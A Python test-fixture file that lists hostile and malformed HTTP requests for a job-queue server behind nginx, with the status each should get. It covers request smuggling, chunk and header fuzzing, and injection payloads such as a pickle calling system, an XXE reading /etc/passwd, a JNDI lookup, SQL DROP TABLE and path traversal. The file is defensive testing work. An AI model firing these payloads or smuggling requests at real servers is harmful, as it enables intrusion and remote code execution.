"""Requests that a hostile or broken client may send, byte by byte, and what each may be answered.

A job that a request asks for has the request's mark as its job_id, so that what is stored can be told apart. HIDDEN is
a second request, which nobody may ever execute: where two servers do not agree on where a request ends, it would be.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from typing import NamedTuple

MARK, HIDE = b"@MARK@", b"@HIDE@"  # replaced by something of the same length, which no other request has
JOB = b'{"job":"noop","args":{"job_id":"@MARK@"}}'
SECOND = b"POST /jobs HTTP/1.1\r\nHost: x\r\nContent-Length: 41\r\n\r\n" + JOB
HIDDEN = SECOND.replace(MARK, HIDE)
END = b"0\r\n\r\n"  # of a chunked body
MIB = 1 << 20


class Case(NamedTuple):
    """`want` and `alone` are the statuses that are right, through nginx and from the server alone where that differs.
    "-" is a connection that is closed without an answer, and "0.9" an answer without a status line."""

    name: str
    want: str
    request: bytes
    alone: str = ""

    def wanted(self, alone: bool) -> list[str]:
        return (self.alone if alone and self.alone else self.want).split()


def http(line: bytes, *headers: bytes, body: bytes = b"") -> bytes:
    return b"\r\n".join([line, b"Host: x", *headers]) + b"\r\n\r\n" + body


def get(path: bytes, *headers: bytes, method: bytes = b"GET") -> bytes:
    return http(method + b" " + path + b" HTTP/1.1", b"Connection: close", *headers)


def post(*headers: bytes, body: bytes = JOB, path: bytes = b"/jobs") -> bytes:
    length = b"Content-Length: %d" % len(body)
    return http(b"POST " + path + b" HTTP/1.1", b"Connection: close", length, *headers, body=body)


def framed(*headers: bytes, body: bytes = b"") -> bytes:
    """Only with the headers that say where the body ends."""
    return http(b"POST /jobs HTTP/1.1", *headers, body=body)


def chunk(data: bytes, size: bytes = b"") -> bytes:
    return (size or b"%x" % len(data)) + b"\r\n" + data + b"\r\n"


def chunked(*parts: bytes) -> bytes:
    return framed(b"Transfer-Encoding: chunked", b"Connection: close", body=b"".join(parts))


def both(encoding: bytes) -> bytes:
    """Ends with its length for one reader; for another after five bytes, and then HIDDEN begins."""
    body = END + HIDDEN
    return framed(b"Connection: close", b"Content-Length: %d" % len(body), encoding, body=body)


def only(encoding: bytes) -> bytes:
    return framed(b"Connection: close", encoding, body=END + HIDDEN)


def length(value: bytes) -> bytes:
    return framed(b"Content-Length: " + value, body=JOB + HIDDEN)


ENCODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "unknown": b"Transfer-Encoding: xchunked",
    "identity": b"Transfer-Encoding: identity",
    "gzip": b"Transfer-Encoding: gzip",
    "a list": b"Transfer-Encoding: gzip, chunked",
    "a list the other way": b"Transfer-Encoding: chunked, identity",
    "an empty element": b"Transfer-Encoding: ,chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "a parameter": b"Transfer-Encoding: chunked;q=1",
    "empty": b"Transfer-Encoding:",
    "a space before the colon": b"Transfer-Encoding : chunked",
    "a tab before the colon": b"Transfer-Encoding\t: chunked",
    "a tab after the colon": b"Transfer-Encoding:\tchunked",
    "a vertical tab": b"Transfer-Encoding: \x0bchunked",
    "a NUL": b"Transfer-Encoding: chunked\x00",
    "a high byte": b"Transfer-Encoding: chunked\xff",
    "a dotless letter": "Transfer-Encoding: chunK\u0131d".encode(),
    "an underscore": b"Transfer_Encoding: chunked",
    "a bare CR before": b"X: x\rTransfer-Encoding: chunked",
    "a bare LF before": b"X: x\nTransfer-Encoding: chunked",
    "a NUL before": b"X: x\x00\r\nTransfer-Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "in another's fold": b"X: x\r\n Transfer-Encoding: chunked",
    "a line that starts with a space": b" Transfer-Encoding: chunked",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "twice, the second unknown": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    "twice, the first unknown": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
}

LENGTHS = {
    "plus": b"+41",
    "minus": b"-41",
    "minus one": b"-1",
    "hexadecimal": b"0x29",
    "a space within": b"4 1",
    "an exponent": b"41e0",
    "a fraction": b"41.0",
    "an underscore": b"4_1",
    "empty": b"",
    "a word": b"forty-one",
    "quoted": b'"41"',
    "other digits": "\uff14\uff11".encode(),
    "a NUL": b"41\x00",
    "two in one, not equal": b"41, 42",
    "twice, not equal": b"41\r\nContent-Length: 5",
    "twice, the second no number": b"41\r\nContent-Length: x",
    "beyond 64 bits": b"18446744073709551657",
    "5,000 digits": b"4" * 5000,
    "a fold": b"4\r\n 1",
}


def smuggling() -> Iterator[Case]:
    # Whoever takes both for one request finds no JSON in it; whoever takes neither finds nothing at all.
    for name, header in ENCODINGS.items():
        yield Case(f"length and encoding: {name}", "400", both(header))
        yield Case(f"encoding alone: {name}", "400", only(header))
    for name, value in LENGTHS.items():
        yield Case(f"length: {name}", "400", length(value))
    inner = chunk(b"x" + HIDDEN) + END
    yield Case("length of four, chunks", "400", framed(b"Content-Length: 4", ENCODINGS["plain"], body=inner))
    yield Case("a length with a space before its colon", "400", framed(b"Content-Length : 41", body=JOB + HIDDEN))
    yield Case("a length with an underscore", "400", framed(b"Content_Length: 41", body=JOB + HIDDEN))
    yield Case("no length", "400", framed(body=JOB + HIDDEN))
    yield Case("HTTP/1.0 and chunks", "400", http(b"POST /jobs HTTP/1.0", ENCODINGS["plain"], body=END + HIDDEN))
    yield Case("a GET with a hidden body", "200", get(b"/jobs", b"Content-Length: %d" % len(HIDDEN)) + HIDDEN)
    yield Case("a request behind the last one", "202", post() + HIDDEN)
    # The server alone does not look for `close` in a list, and takes what follows for the next request, openly.
    upgrade = http(b"GET /healthz HTTP/1.1", b"Upgrade: x", b"Connection: close, Upgrade")
    yield Case("an upgrade, then a request", "200", upgrade + SECOND, "200 202")
    yield Case("a request in the target", "400", get(b"/healthz HTTP/1.1\r\nX: x\r\n\r\n" + HIDDEN[:-41]))
    yield Case("a request in a header", "200", get(b"/healthz", b"X: " + HIDDEN.replace(b"\r\n", b"%0d%0a")))
    yield Case("hop by hop: the length", "202", post(b"Connection: Content-Length") + SECOND)


def chunks() -> Iterator[Case]:
    job = chunk(JOB)
    yield Case("one", "202", chunked(job, END))
    yield Case("of one byte each", "202", chunked(*(chunk(JOB[n : n + 1]) for n in range(len(JOB))), END))
    yield Case("a size in capitals, with zeros", "202", chunked(chunk(JOB + b" ", b"000002A"), END))
    yield Case("an extension", "202", chunked(chunk(JOB, b"29;a=b"), END), "400")
    yield Case("an extension of 10,000 bytes", "202 400", chunked(chunk(JOB, b"29;a=" + b"b" * 10_000), END), "- 400")
    yield Case("an extension with a bare LF", "202 400", chunked(chunk(JOB, b"29;a\nb"), END, HIDDEN), "400")
    yield Case("a trailer", "202", chunked(job, b"0\r\nX: x\r\n\r\n"), "400")
    yield Case("a trailer that is a length", "202", chunked(job, b"0\r\nContent-Length: 5\r\n\r\n") + HIDDEN, "400")
    yield Case("a trailer that is an encoding", "202", chunked(job, b"0\r\nTransfer-Encoding: x\r\n\r\n"), "400")
    yield Case("a space behind the size", "202 400", chunked(chunk(JOB, b"29 x"), END, HIDDEN), "400")
    for size in (b"zz", b"-29", b"+29", b"0x29", b" 29", b"2 9", b"\x0029", b"\xff", b"2" * 40, b"1" + b"0" * 16):
        yield Case(f"a size of {ascii(size)[2:22]}", "400", chunked(chunk(JOB, size), END, HIDDEN))
    yield Case("no size", "400", chunked(b"\r\n" + JOB + b"\r\n", END, HIDDEN))
    yield Case("longer than their size", "400", chunked(chunk(JOB, b"20"), END, HIDDEN))
    yield Case("ended by something else", "400", chunked(b"29\r\n" + JOB + b"xx", END, HIDDEN))
    yield Case("a size ended by LF", "202 400", chunked(b"29\n" + JOB + b"\r\n", END, HIDDEN), "400")
    yield Case("a size ended by CR", "400", chunked(b"29\r" + JOB + b"\r\n", END, HIDDEN))
    yield Case("a last one that is none", "202 400", chunked(job, b"0\r\nxx", HIDDEN), "400")
    yield Case("no last one", "- 408", chunked(job))


def syntax() -> Iterator[Case]:
    yield Case("only LF", "200", b"GET /healthz HTTP/1.1\nHost: x\nConnection: close\n\n")
    yield Case("only CR", "400 -", b"GET /healthz HTTP/1.1\rHost: x\r\r")
    yield Case("a bare CR in a value", "400", get(b"/healthz", b"X: a\rb"))
    yield Case("a folded value", "400", get(b"/healthz", b"X: a\r\n b"))
    yield Case("a NUL in a value", "400", get(b"/healthz", b"X: a\x00b"))
    yield Case("a NUL in a name", "400", get(b"/healthz", b"X\x00: a"))
    for code in (0x01, 0x08, 0x1B, 0x7F):
        yield Case(f"control character {code:02x} in a value", "400", get(b"/healthz", b"X: a%cb" % code))
        yield Case(f"control character {code:02x} in a name", "400", get(b"/healthz", b"X%c: a" % code))
        yield Case(f"control character {code:02x} in the target", "400", get(b"/healthz%c" % code))
    yield Case("control characters in our own headers", "400", post(b"Idempotency-Key: a\x1b[31m"))
    yield Case("a control character, and 1 MiB", "400", post(b"X: a\x1bb", body=sized(MIB)))
    yield Case("Latin 1 in a value", "200", get(b"/healthz", b"X: \xe9"))
    yield Case("a space in a name", "400", get(b"/healthz", b"X Y: a"))
    yield Case("no name", "400", get(b"/healthz", b": a"))
    yield Case("no colon", "200 400", get(b"/healthz", b"X"))
    yield Case("a name in brackets", "200", get(b"/healthz", b"(X): a"), "400")
    yield Case("a name that is not ASCII", "200", get(b"/healthz", b"\xc3\xa9: a"), "400")
    yield Case("two spaces after the method", "400 200", get(b" /healthz"), "400")
    yield Case("a tab after the method", "400", get(b"/healthz", method=b"GET\t"))
    yield Case("a space before the method", "400", b" " + get(b"/healthz"))
    yield Case("empty lines before", "200", b"\r\n\r\n" + get(b"/healthz"), "400")
    yield Case("a space in the target", "400", get(b"/health z"))
    yield Case("a NUL in the target", "400", get(b"/healthz\x00"))
    yield Case("a fragment in the target", "404 200", get(b"/healthz#x"))
    yield Case("no target", "400", http(b"GET HTTP/1.1"))
    yield Case("an empty target", "400", http(b"GET  HTTP/1.1"))
    yield Case("no slash", "400", get(b"healthz"), "404")
    yield Case("absolute", "200", get(b"http://x/healthz"), "404 400")
    yield Case("absolute, another host", "202", post(path=b"http://elsewhere/jobs"), "404 400")
    yield Case("absolute, a page's host", "403", post(path=b"http://page.example/jobs"), "404 400")
    yield Case("absolute, no path", "400", get(b"http://x"), "404 400")
    yield Case("absolute, a query only", "400", get(b"http://x?a"), "404 400")
    yield Case("absolute, no host", "400", get(b"http:///healthz"), "404 400")
    yield Case("absolute, another scheme", "400", get(b"gopher:x"), "404 400")
    yield Case("authority", "400 405", get(b"x:80", method=b"CONNECT"), "405")
    yield Case("authority of a POST", "400", post(path=b"x:80"), "404")
    yield Case("an asterisk", "400 404", get(b"*", method=b"OPTIONS"), "404")
    yield Case("HTTP/0.9", "0.9 400", b"GET /healthz\r\n\r\n", "400")
    yield Case("HTTP/0.9 that would enqueue", "0.9 400", b"GET /\r\n\r\n" + JOB, "400")
    yield Case("HTTP/1.0 without a host", "200", b"GET /healthz HTTP/1.0\r\n\r\n")
    yield Case("HTTP/1.1 without a host", "400", b"GET /healthz HTTP/1.1\r\n\r\n")
    for version in (b"HTTP/2.0", b"HTTP/3.0", b"HTTP/1", b"HTTP/1.1x", b"HTTP/11", b"http/1.1", b"XTTP/1.1"):
        yield Case(f"version {version.decode()}", "400", http(b"GET /healthz " + version))
    yield Case("a space behind the version", "200 400", http(b"GET /healthz HTTP/1.1 ", b"Connection: close"))
    yield Case("the preface of HTTP/2", "400 -", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield Case("TLS", "400 -", bytes.fromhex("16030100c8010000c40303") + b"\x07" * 189)
    yield Case("SMTP", "400", b"HELO x\r\nMAIL FROM:<a@x>\r\n\r\n")
    yield Case("SSH", "400", b"SSH-2.0-OpenSSH_9.6\r\n\r\n")
    yield Case("SOCKS", "400 -", b"\x05\x01\x00\r\n\r\n")
    yield Case("nothing but zeros", "400 -", bytes(1000) + b"\r\n\r\n")
    yield Case("a format string", "400", b"%s%s%s%n%n%n /%x HTTP/1.1\r\nHost: %s\r\n\r\n")
    yield Case("half of the headers", "- 408", b"POST /jobs HTTP/1.1\r\nHost: x\r\nContent-Le")
    yield Case("half of the body", "- 408", framed(b"Content-Length: 100", body=JOB))
    yield Case("only empty lines", "- 408 400", b"\r\n\r\n\r\n\r\n")


HOSTS = {
    "two": b"x\r\nHost: y",
    "empty": b"",
    "a space": b"x y",
    "a slash": b"x/y",
    "a comma": b"x,y",
    "a user": b"a@x",
    "a bracket": b"[::1",
    "markup": b"<script>alert(1)</script>",
    "not ASCII": b"\xc2\x9b31m",
    "a control character": b"x\x1b",
    "a port of 5,000 digits": b"x:" + b"1" * 5000,
    "5,000 letters": b"x" * 5000,
    "dots": b"..",
    "an address of the inside": b"169.254.169.254",
}


def hosts() -> Iterator[Case]:
    for name, host in HOSTS.items():
        want = "200 400" if name not in ("two", "a space", "a control character") else "400"
        yield Case(
            name, want, b"GET /healthz HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n", f"{want} -"
        )


def sized(bytes_in_all: int) -> bytes:
    """A submission of that length, which says its mark first."""
    return JOB[:-3] + b"x" * (bytes_in_all - len(JOB)) + JOB[-3:]


def pipelines() -> Iterator[Case]:
    keep = framed(b"Content-Length: 41", body=JOB)
    health = http(b"GET /healthz HTTP/1.1")
    yield Case("two jobs", "202", keep + post())
    yield Case("a look, then a job", "200 202", health + post())
    yield Case("fifty looks", "200", health * 49 + get(b"/healthz"))
    yield Case("a refusal, then a job", "404 202", http(b"GET /nothing HTTP/1.1") + post())
    yield Case("a job, then garbage", "202 400", keep + b"\x01\x02 garbage\r\n\r\n")
    yield Case("a job, then half a job", "202 - 408", keep + keep[:-5])
    yield Case(
        "too large, then a request in its body", "413", framed(b"Content-Length: %d" % (3 * MIB)) + HIDDEN, "400 -"
    )


def sizes() -> Iterator[Case]:
    yield Case("an address of 5,000 bytes", "404", get(b"/" + b"x" * 5000))
    yield Case("an address of 9,000 bytes", "414", get(b"/" + b"x" * 9000), "404")
    yield Case("an address of 200,000 bytes", "414", get(b"/" + b"x" * 200_000), "-")
    yield Case("a header of 8,000 bytes", "200", get(b"/healthz", b"X: " + b"x" * 8000))
    yield Case("a header of 9,000 bytes", "400", get(b"/healthz", b"X: " + b"x" * 9000), "200")
    yield Case("a name of 9,000 bytes", "400", get(b"/healthz", b"x" * 9000 + b": x"), "200")
    for count in (2, 3, 4, 6):
        lines = [b"X%d: " % n + b"x" * 7500 for n in range(count)]
        yield Case(f"{count} headers of 7,500 bytes", "200 400", get(b"/healthz", *lines), "200 -")
    yield Case("100 headers", "200", get(b"/healthz", *(b"X%d: x" % n for n in range(100))))
    yield Case("3,000 headers", "200 400", get(b"/healthz", *(b"X%d: x" % n for n in range(3000))), "200 -")
    yield Case("100,000 headers", "400", get(b"/healthz", *(b"X%d: x" % n for n in range(100_000))), "-")
    yield Case("one name a thousand times", "200 400", get(b"/healthz", *[b"Accept: x"] * 1000))
    yield Case("1 MiB", "202", post(body=sized(MIB)))
    yield Case("1 MiB and a byte", "413", post(body=sized(MIB + 1)))
    yield Case("5 MiB", "413", post(body=sized(5 * MIB)), "400 -")
    yield Case("1 MiB of chunks", "202", chunked(*[chunk(sized(MIB)[n : n + 8192]) for n in range(0, MIB, 8192)], END))
    yield Case(
        "5 MiB in chunks",
        "413",
        chunked(*[chunk(sized(5 * MIB)[n : n + 65536]) for n in range(0, 5 * MIB, 65536)], END),
        "400 -",
    )
    yield Case("20,000 chunks of a byte", "202", chunked(*(chunk(b"%c" % c) for c in sized(20_000)), END))
    yield Case("a length of 10 TB, no body", "413", framed(b"Content-Length: 9999999999999"), "400 -")
    yield Case("Expect, and a job", "202", post(b"Expect: 100-continue"))
    yield Case("Expect, too large", "413", framed(b"Expect: 100-continue", b"Content-Length: 5000000"), "400 -")
    yield Case("Expect something else", "202", post(b"Expect: a-miracle"))
    yield Case("1,000,000 digits of a length", "400", framed(b"Content-Length: " + b"9" * 1_000_000), "-")


def nested(depth: int, left: str = "[", right: str = "]") -> bytes:
    return b'{"job":"noop","args":{"job_id":["@MARK@",' + (left * depth + "1" + right * depth).encode() + b"]}}"


def valued(value: bytes) -> bytes:
    return b'{"job":"noop","args":{"job_id":["@MARK@",' + value + b"]}}"


# Refused as no JSON, or as ambiguous.
NOT_JSON = {
    "nothing": b"",
    "a space": b" ",
    "cut off": JOB[:-1],
    "trailing garbage": JOB + b"x",
    "two documents": JOB + JOB,
    "a trailing comma": JOB[:-1] + b",}",
    "single quotes": JOB.replace(b'"', b"'"),
    "no quotes": JOB.replace(b'"', b""),
    "a comment": JOB + b"// x",
    "a comment within": JOB.replace(b",", b",/* x */"),
    "a NUL behind": JOB + b"\x00",
    "a NUL before": b"\x00" + JOB,
    "a byte order mark": b"\xef\xbb\xbf" + JOB,
    "UTF-16": JOB.decode().encode("utf-16"),
    "UTF-16 without its mark": JOB.decode().encode("utf-16-le"),
    "UTF-32": JOB.decode().encode("utf-32"),
    "UTF-7": b'+AHs-"job":"noop"}',
    "EBCDIC": JOB.decode().encode("cp037"),
    "gzip": gzip.compress(JOB),
    "a form": b"job=noop&args=%7B%7D",
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "YAML": b"job: noop\nargs: {}\n",
    "a pickle": b"\x80\x04cposix\nsystem\n(S'touch pwned'\ntR.",
    "a name twice": b'{"job":"noop","job":"sleep","args":{"job_id":"@MARK@"}}',
    "a name twice, once escaped": b'{"job":"noop","\\u006aob":"sleep","args":{"job_id":"@MARK@"}}',
    "an argument twice": b'{"job":"noop","args":{"job_id":"@MARK@","job_id":1}}',
    "a control character": JOB.replace(b"@MARK@", b"@MARK@\x1f"),
    "a newline in a text": JOB.replace(b"@MARK@", b"@MARK@\n"),
    "an escape that is none": JOB.replace(b"@MARK@", b"@MARK@\\x41"),
    "half an escape": JOB.replace(b"@MARK@", b"@MARK@\\u00"),
}
# In a value of an otherwise good submission.
NOT_VALUES = {
    "NaN": b"NaN",
    "Infinity": b"Infinity",
    "-Infinity": b"-Infinity",
    "plus": b"+1",
    "a leading zero": b"01",
    "a bare point": b"1.",
    "a point first": b".5",
    "hexadecimal": b"0x10",
    "True": b"True",
    "undefined": b"undefined",
    "an empty element": b"1,,2",
    "a lone surrogate": b'"\\ud800"',
    "the second surrogate alone": b'"\\udfff"',
    "surrogates the wrong way": b'"\\udc00\\ud800"',
    "a lone surrogate as a name": b'{"\\ud800":1}',
    "a surrogate in UTF-8": b'"\xed\xa0\x80"',
    "invalid UTF-8": b'"\xff"',
    "overlong UTF-8": b'"\xc0\xaf"',
    "UTF-8 cut off": b'"\xe9\x9b"',
    "beyond Unicode": b'"\xf4\x90\x80\x80"',
    "5,000 digits": b"9" * 5_000,
    "100,000 digits": b"9" * 100_000,
}
# JSON, and nothing that can be run.
OF_ANOTHER_SHAPE = {
    "null": b"null",
    "true": b"true",
    "a number": b"7",
    "a text": b'"noop"',
    "a list": b"[]",
    "a list of jobs": b"[" + JOB + b"]",
    "an empty object": b"{}",
    "a job that is a number": b'{"job":7}',
    "a job that is null": b'{"job":null}',
    "a job that is a list": b'{"job":["noop"]}',
    "args that are a list": b'{"job":"noop","args":[]}',
    "args that are a text": b'{"job":"noop","args":"{}"}',
    "args that are null": b'{"job":"noop","args":null}',
    "an unknown member": b'{"job":"noop","shell":"id"}',
    "an unknown argument": b'{"job":"noop","args":{"job_id":"@MARK@","x":1}}',
    "__proto__": b'{"job":"noop","__proto__":{"x":1}}',
    "__proto__ as an argument": b'{"job":"noop","args":{"__proto__":{"x":1}}}',
    "constructor": b'{"job":"noop","constructor":{"prototype":{}}}',
    "__class__": b'{"job":"noop","args":{"__class__":"os"}}',
    "self": b'{"job":"noop","args":{"self":1}}',
    "an argument of no name": b'{"job":"noop","args":{"":1}}',
    "other capitals": b'{"Job":"noop"}',
    "a member with a NUL": b'{"job\\u0000":"noop"}',
}
NAMES = {
    "other capitals": "NOOP",
    "a space behind": "noop ",
    "a NUL behind": "noop\0",
    "empty": "",
    "import": "__import__('os').system('id')",
    "a dunder": "__init__",
    "a module": "os.system",
    "a path": "../../../etc/passwd",
    "a format": "%s%s%n{0.__class__}",
    "a look-up": "${jndi:ldap://x.example/a}",
    "a template": "{{7*7}}",
    "SQL": "'; DROP TABLE jobs; --",
    "markup": "<script>alert(1)</script>",
    "escapes": "\x1b]0;pwned\x07\x1b[31m",
    "a line of a log": "x\n2026-01-01T00:00:00.000 ERROR 1 [-] forged",
    "right to left": "\u202epoon",
    "other letters": "n\u043e\u043ep",
    "no width": "no\u200bop",
    "an emoji": "🌊",
    "100,000 letters": "n" * 100_000,
}
ACCEPTED_VALUES = {
    "as deep as is allowed": b"[" * 90 + b"]" * 90,
    "an empty text": b'""',
    "an escaped NUL": b'"a\\u0000b"',
    "a pair of surrogates": b'"\\ud83c\\udf0a"',
    "line separators": '"\u2028\u2029"'.encode(),
    "beyond the basic plane": '"🌊"'.encode(),
    "__proto__ further in": b'{"__proto__":{"x":1},"constructor":1}',
    "a number of 64 bits": b"18446744073709551615",
    "the smallest": b"-9223372036854775808",
    "1e-999": b"1e-999",
    "minus zero": b"-0",
    "a text of 100,000 letters": b'"' + b"x" * 100_000 + b'"',
    "10,000 names": b"{" + b",".join(b'"%d":1' % n for n in range(10_000)) + b"}",
    "spaces of all kinds": b" \t\r\n1 \t\r\n",
}
DEPTHS = (*range(94, 106), *range(180, 260, 7), *range(880, 1010, 3), 5_000, 100_000)


def documents() -> Iterator[Case]:
    for name, body in NOT_JSON.items():
        yield Case(name, "400", post(body=body))
    for name, value in NOT_VALUES.items():
        yield Case(name, "400", post(body=valued(value)))
    for name, body in OF_ANOTHER_SHAPE.items():
        yield Case(name, "422", post(body=body))
    for name, value in ACCEPTED_VALUES.items():
        yield Case(name, "202", post(body=valued(value)))
    for name, value in {"1e999": b"1e999", "-1e999": b"-1e999", "2**64": b"18446744073709551616"}.items():
        yield Case(name, "202 400 422", post(body=valued(value)))
    for depth in DEPTHS:
        yield Case(f"{depth} lists deep", "202 400", post(body=nested(depth)))
        yield Case(f"{depth} objects deep", "202 400", post(body=nested(depth, '{"a":', "}")))
    yield Case("100,000 lists that stay open", "400", post(body=b"[" * 100_000))


def names() -> Iterator[Case]:
    for name, job in NAMES.items():
        yield Case(name, "404", post(body=json.dumps({"job": job}).encode()))


# What else a submission may say: (member, value, what is right). Nothing that is accepted waits.
MEMBERS = (
    ("delay", "422", ("-1", "true", '"1"', "[]", "1e308", "31536001")),
    ("delay", "400", ("NaN", "1_0", "1e", "0x1")),
    ("delay", "202", ("null", "0", "1e-320", "-0.0")),
    ("run_at", "422", ('""', '"yesterday"', "0", '"2026-11-24"', '"2026-11-24T12:00:00"', '"2026-02-30T12:00:00Z"')),
    ("run_at", "422", ('"2026-11-24T25:00:00Z"', '"9999-12-31T23:59:59-23:59"', '"2026-11-24T12:00:00+99:99"')),
    ("run_at", "422", (f'"{"9" * 5000}-11-24T12:00:00Z"', '"\uff12026-11-24T12:00:00Z"', '"12:00Z"')),
    (
        "run_at",
        "202 422",
        ('"0001-01-01T00:00:00+23:59"', '"2016-12-31T23:59:60Z"', f'"2026-01-01T12:00:00.{"1" * 99}Z"'),
    ),
    ("priority", "422", ("101", "-101", "1.5", '"1"', "true", "9223372036854775808", "null")),
    ("priority", "202 422", ("1.0", "1e1", "-0")),
    ("timeout", "422", ("0", "-1", "1e300", '"1"', "true")),
    ("timeout", "400 422", ("1e999",)),
    ("attempts", "422", ("0", "-1", "1001", "1.5", "true", "18446744073709551616")),
    ("expires_in", "422", ("-1", "0", '"1"', "1e300")),
    ("expires_in", "202", ("5e-324", "60")),
    ("deadline", "422", ('"now"', '"9999-12-31T23:59:59Z"')),
    ("deadline", "202 422", ('"0001-01-01T00:00:00Z"',)),
    (
        "callback",
        "422",
        ('"http://127.0.0.1/"', '"http://[::1"', '"file:///etc/passwd"', '"gopher://x"', '""', "7", "{}"),
    ),
)


def members() -> Iterator[Case]:
    for member, want, values in MEMBERS:
        for value in values:
            body = JOB[:-1] + f',"{member}":{value}}}'.encode()
            yield Case(f"{member}: {ascii(value)[1:40]}", want, post(body=body))
    twice = JOB[:-1] + b',"delay":0,"run_at":"2026-01-01T00:00:00Z"}'
    yield Case("two of a kind", "422", post(body=twice))


COUNTS = (b"", b"0", b"-1", b"1.5", b"1e2", b"x", b"+1", b"%201", b"%EF%BC%91", b"%00", b"%ff", b"9" * 19, b"9" * 5000)
# A number that is small by its first digits.
COUNTS += (b"0" * 19 + b"1" + b"9" * 5, b"0" * 19 + b"1" + b"9" * 90, b"0" * 19 + b"1" + b"9" * 5000)
NOBODY = b"/jobs/01890000-0000-7000-8000-000000000000"


def lists() -> Iterator[Case]:
    for count in COUNTS:
        name = f"{count[:24].decode()} of {len(count)} bytes"
        yield Case(f"limit {name}", "422 400 200", get(b"/jobs?limit=" + count))
        yield Case(f"cursor {name}", "422 400 200", get(b"/jobs?cursor=" + count))
        yield Case(f"wait {name}", "422 400 404", get(NOBODY + b"?wait=" + count))
    for query in (
        b"state=",
        b"state=x",
        b"state=QUEUED",
        b"state=queued%00",
        b"state=%ff",
        b"x=1",
        b"%ff=1",
        b"state[]=queued",
    ):
        yield Case(f"a list by {query.decode()}", "422 400 200", get(b"/jobs?" + query))
    for query in (
        b"job=" + b"x" * 7000,
        b"job='%20OR%201=1--",
        b"job=%00",
        b"job=%25",
        b"limit=1&limit=2",
        b"job=a&job=b",
    ):
        yield Case(f"a list by {query[:30].decode()}", "200", get(b"/jobs?limit=1&" + query))


# As a line of a request with lines, this is no submission; as a request, it is one.
BEHIND = b'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 19\r\n\r\n{"job_id":"@HIDE@"}'
LINES = b"Content-Type: application/x-ndjson"
LINE_BODIES = {
    "none": b"",
    "only empty ones": b"\n" * 5000,
    "ended by CR and LF": JOB + b"\r\n" + JOB + b"\r\n",
    "ended by CR": JOB + b"\r" + JOB,
    "ended by a line separator": JOB + "\u2028".encode() + JOB,
    "a byte order mark first": b"\xef\xbb\xbf" + JOB + b"\n" + JOB,
    "UTF-16": (JOB.decode() + "\n").encode("utf-16") * 3,
    "a NUL between": JOB + b"\n\0\n" + JOB,
    "a list of jobs": b"[" + JOB + b",\n" + JOB + b"]\n",
    "two in one": JOB + JOB + b"\n" + JOB,
    "one over two": JOB[:20] + b"\n" + JOB[20:] + b"\n" + JOB,
    "binary": bytes(range(256)) * 100,
    "deep ones": (b"[" * 5000 + b"\n") * 100 + JOB,
    "deep and good": nested(2000) + b"\n" + nested(90),
    "1 MiB and a byte": sized(MIB + 1) + b"\n" + JOB,
    "3 MiB without an end": b"x" * (3 * MIB),
    "unknown names": b"".join(b'{"job":%s}\n' % json.dumps(name).encode() for name in NAMES.values()) + JOB,
    "names twice": b'{"job":"noop","job":"noop"}\n' + JOB,
    "4,000 bad ones": b"{\n" * 4000 + JOB,
}
LINE_TYPES = {
    "in capitals": (b"Content-Type: APPLICATION/X-NDJSON", "200"),
    "with a charset": (LINES + b"; charset=utf-16", "200"),
    "in a list": (LINES + b", application/json", "415"),
    "twice": (LINES + b"\r\n" + LINES, "400 415"),
    "nearly": (b"Content-Type: application/x-ndjsonx", "415"),
    "with a vertical tab": (LINES + b"\x0b", "400"),
    "with a tab": (LINES + b"\t", "200"),
    "compressed": (LINES + b"\r\nContent-Encoding: gzip", "415"),
    "with a key": (LINES + b"\r\nIdempotency-Key: k@MARK@", "400"),
    "of another site": (LINES + b"\r\nSec-Fetch-Site: cross-site", "403"),
    "expected": (LINES + b"\r\nExpect: 100-continue", "200"),
}


def bulk() -> Iterator[Case]:
    """Lines: nginx hands these bodies on while they come, so two servers must agree on where they end."""
    for name, header in ENCODINGS.items():
        body = END + BEHIND
        close = framed(LINES, b"Connection: close", b"Content-Length: %d" % len(body), header, body=body)
        yield Case(f"length and encoding: {name}", "200 400", close)
        yield Case(f"encoding alone: {name}", "200 400", framed(LINES, b"Connection: close", header, body=body))
    for name, value in LENGTHS.items():
        yield Case(f"length: {name}", "400", framed(LINES, b"Content-Length: " + value, body=JOB + HIDDEN))
    parts = framed(LINES, ENCODINGS["plain"], b"Connection: close")
    for size in (b"zz", b"-29", b"0x29", b" 29", b"", b"2" * 40, b"1" + b"0" * 16):
        yield Case(
            f"a chunk's size of {ascii(size)[2:22]}", "400 -", parts + chunk(JOB + b"\n", size or b" ") + END + BEHIND
        )
    yield Case("a bad chunk behind a good one", "400 502 -", parts + chunk(JOB + b"\n") + b"zz\r\n" + BEHIND)
    yield Case("an extension", "200 400", parts + chunk(JOB, b"29;a=b") + END)
    yield Case("a trailer", "200 400", parts + chunk(JOB) + b"0\r\nContent-Length: 5\r\n\r\n" + BEHIND)
    yield Case("a byte a chunk", "200", parts + b"".join(chunk(JOB[n : n + 1]) for n in range(len(JOB))) + END)
    yield Case("no last chunk", "- 408", parts + chunk(b"{}\n"))
    yield Case("half a body", "- 408", framed(LINES, b"Content-Length: 500", body=b"{}\n"))
    yield Case("two requests", "200", framed(LINES, b"Content-Length: 42", body=JOB + b"\n") + post(LINES))
    yield Case("a request behind the last", "200", post(LINES) + BEHIND)
    for name, body in LINE_BODIES.items():
        yield Case(f"lines: {name}", "200", post(LINES, body=body))
        pieces = [chunk(body[at : at + 5000]) for at in range(0, len(body), 5000)]
        yield Case(f"lines in chunks: {name}", "200", parts + b"".join(pieces) + END)
    for name, (header, want) in LINE_TYPES.items():
        yield Case(f"type {name}", want, post(header))
    for path in (b"/", b"/jobs/", b"/jobs/retry", b"/stats", b"//jobs", b"/jobs?x=1", b"/%6aobs"):
        yield Case(f"lines to {path.decode()}", "200 400 404 405 415 422", post(LINES, path=path))


